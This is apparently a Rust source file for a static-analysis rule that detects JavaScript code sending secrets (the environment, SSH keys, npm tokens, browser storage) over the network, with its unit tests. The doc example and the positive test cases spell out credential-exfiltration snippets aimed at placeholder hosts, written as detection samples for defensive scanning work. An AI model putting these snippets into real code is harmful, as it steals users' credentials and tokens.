use palisade_diagnostics::{Confidence, Finding, Severity};

use super::{flow_destination, is_local, source_text};
use crate::context::ScanContext;
use crate::rule::{Rule, RuleMeta, declare_rule};

declare_rule! {
    /// ## What it does
    /// Follows values inside a function from secret sources — the whole
    /// environment, credential files (`~/.ssh`, `~/.aws`, `~/.npmrc`, browser
    /// and wallet data), registry and repository tokens — to network calls
    /// (`http(s)`, `fetch`, `axios`, sockets, DNS), and reports the flows that
    /// send them out.
    ///
    /// A named API key sent to an ordinary host is how API clients work and is
    /// not reported; it is reported when the host is a collection endpoint or
    /// a raw IP, or when the code runs at install.
    ///
    /// ## Why is this bad?
    /// Sending the environment or a credential file anywhere is what token
    /// stealers and worms do: with an npm or GitHub token they publish
    /// themselves into the victim's packages.
    ///
    /// ## Example
    /// ```js
    /// const data = JSON.stringify(process.env);
    /// https.request({ hostname: 'x.invalid', method: 'POST' }).end(data);
    /// ```
    ///
    /// ## References
    /// - Shai-Hulud (September 2025): token harvesting and self-republishing.
    SecretsToNetwork {
        id: "exfil/secrets-to-network",
        severity: Critical,
        status: Stable,
        summary: "Secrets (environment, credential files, tokens) are sent over the network",
    }
}

impl Rule for SecretsToNetwork {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
        for flow in &ctx.facts.flows {
            if !matches!(flow.sink.as_str(), "network" | "dns") {
                continue;
            }
            let dest = flow_destination(flow);
            if dest.as_ref().is_some_and(is_local) {
                continue;
            }
            // A webhook-shaped path on an API host is how some vendors name
            // their endpoints; only real collection services count here.
            let collector = dest
                .as_ref()
                .is_some_and(|d| d.collector.is_some_and(|c| c != "webhook-url"));
            let vendor = dest.as_ref().is_some_and(|d| ctx.is_vendor_host(&d.host));
            let install = flow.at.install_time;
            let severity = match flow.source.as_str() {
                "env" => Severity::Critical,
                "credential-file" | "browser-data" if dest.is_some() && !vendor => {
                    Severity::Critical
                }
                "credential-file" | "browser-data" => Severity::High,
                "publish-token" | "env-secret" | "browser-token" if collector => Severity::Critical,
                "publish-token" if install && dest.is_some() && !vendor => Severity::Critical,
                "env-secret" if install && dest.is_some() && !vendor => Severity::High,
                _ => continue,
            };
            let to = dest.as_ref().map_or_else(
                || "a computed destination".to_owned(),
                |d| format!("`{}`", d.host),
            );
            out.push(
                ctx.at(
                    Finding::new(
                        Self::META.id,
                        severity,
                        format!(
                            "sends {} to {to} via `{}`",
                            source_text(&flow.source),
                            flow.sink_api
                        ),
                    )
                    .with_confidence(if dest.is_some() {
                        Confidence::High
                    } else {
                        Confidence::Medium
                    }),
                    &flow.at.location,
                )
                .at_install_time(install)
                .with_capability("exfiltration"),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::{Case, Tester};

    #[test]
    fn rule() {
        Tester::new(&SecretsToNetwork::META).test(
            &[
                Case::Js(
                    "const https = require('https');\nfunction go() {\n  const data = JSON.stringify(process.env);\n  const req = https.request({ hostname: 'collect.invalid', method: 'POST' });\n  req.write(data);\n  req.end();\n}",
                ),
                Case::Js(
                    "const fs = require('fs'); const os = require('os');\nconst key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\nfetch('https://keys.invalid/k', { method: 'POST', body: key });",
                ),
                Case::InstallJs("const t = process.env.NPM_TOKEN;\nrequire('axios').post('https://t.invalid/x', { t });"),
                Case::Js("function grab() {\n  const f = document.createElement('iframe');\n  const r = new XMLHttpRequest();\n  r.open('POST', 'http://192.0.2.10/t');\n  r.send(JSON.stringify({ content: 'Token: ' + f.contentWindow.localStorage.token }));\n}"),
            ],
            &[
                Case::Js("const key = process.env.POSTMARK_API_TOKEN;\nfetch('https://api.postmarkapp.invalid/email', { headers: { 'X-Token': key } });"),
                Case::Js("const child = require('child_process').spawn('node', ['x.js'], { env: { ...process.env, A: '1' } });"),
                Case::Js("fetch('http://127.0.0.1:8080/env', { method: 'POST', body: JSON.stringify(process.env) });"),
                Case::Js("console.log(JSON.stringify(process.env));"),
                Case::Js("const t = localStorage.getItem('auth_token');\nfetch('https://api.example.invalid/me', { headers: { Authorization: 'Bearer ' + t } });"),
            ],
        );
    }
}
